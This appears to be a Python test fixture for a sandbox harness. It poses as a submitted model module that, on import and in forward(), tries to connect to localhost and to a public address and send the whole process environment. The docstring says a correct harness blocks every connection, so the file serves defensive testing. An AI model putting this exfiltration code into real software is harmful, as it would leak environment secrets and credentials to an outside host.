"""Sandbox attack: phones home — connects to a listener on the host's loopback (the test's) and to
a public address, and sends its environment.

A correct harness: no connection succeeds (the listener sees nothing) and the verdict is correct.
"""
import json
import os
import socket

import torch.nn as nn

from _attack import attempt, swish

TARGETS = {}


def _send(host, port):
    with socket.create_connection((host, port), timeout=2) as s:
        s.sendall(json.dumps(dict(os.environ)).encode())
    return f"{host}:{port}"


def _phone_home():
    hosts = [("127.0.0.1", TARGETS.get("port", 9)), ("1.1.1.1", 443)]
    return [r for r in (attempt(lambda h=h: _send(*h)) for h in hosts) if r]


REACHED = _phone_home()


class ModelNew(nn.Module):
    def forward(self, x):
        reached = REACHED + _phone_home()
        if reached:
            print("REACHED:", reached)
            return x * 0
        return swish(x)
